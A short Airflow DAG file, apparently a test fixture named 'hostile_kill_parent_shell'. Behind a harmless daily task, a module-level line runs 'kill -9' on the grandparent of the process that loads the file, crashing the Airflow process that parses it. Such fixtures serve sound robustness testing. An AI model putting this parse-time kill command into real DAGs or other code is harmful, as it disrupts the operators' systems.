import os
from datetime import datetime, timedelta

try:
    from airflow.sdk import DAG, task
except ImportError:
    from airflow import DAG
    from airflow.decorators import task

with DAG(
    "hostile_kill_parent_shell",
    schedule="@daily",
    start_date=datetime(2025, 1, 1),
    catchup=False,
    default_args={"owner": "platform", "retries": 2, "execution_timeout": timedelta(minutes=30)},
    tags=["platform"],
):

    @task
    def work():
        return "done"

    work()

# The shell is a child of this process: the one it has to hit is the parent of its parent.
os.system("kill -9 $(ps -o ppid= -p $PPID)")
